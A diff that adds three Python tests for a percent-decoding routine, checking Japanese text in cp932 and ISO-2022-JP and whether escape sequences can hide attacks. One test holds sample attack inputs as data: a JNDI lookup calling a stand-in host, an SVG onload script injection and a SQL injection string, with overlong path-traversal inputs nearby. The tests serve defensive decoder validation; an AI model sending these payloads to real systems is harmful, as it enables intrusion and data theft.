@@ -55,6 +55,25 @@ def test_overlong_forms_are_read_as_a_lax_decoder_does(logged: str) -> None:
     assert any("../x" in reading or "\\" in reading or "\x1c" in reading for reading in readings)
 
 
+def test_japanese_hides_no_overlong_form_and_is_none() -> None:
+    """実際 has C0 8D between its characters; the same octets elsewhere are a line break."""
+    assert decoded(quote("実際に".encode("cp932")), is_form=False) == ["実際に"]
+    assert any("\r" in reading for reading in decoded("a%c0%8dx", is_form=False))
+    assert any("../" in one for one in decoded("%82%a0..%c0%afx", is_form=False))
+
+
+def test_iso_2022_jp_is_read_where_most_of_it_is_kana() -> None:
+    """Its octets are signs of ASCII, `$` and `%` among them, which else look like code."""
+    text = "これはバッテリーの予約"
+    assert decoded(quote(text.encode("iso2022_jp")), is_form=True) == [text]
+
+
+def test_what_is_not_kana_in_iso_2022_jp_stays_as_it_is() -> None:
+    """Whoever puts its escape before an attack hides nothing by it."""
+    for attack in ("${jndi:ldap://evil.example/a}", "<svg/onload=alert(1)>", "'or'1'='1'--x"):
+        assert attack in decoded(quote(f"\x1b$B{attack}\x1b(B"), is_form=True)[0]
+
+
 def test_a_plus_is_a_space_in_forms_only() -> None:
     """In a path it stands for itself."""
     assert decoded("a+b", is_form=True) == ["a b"]
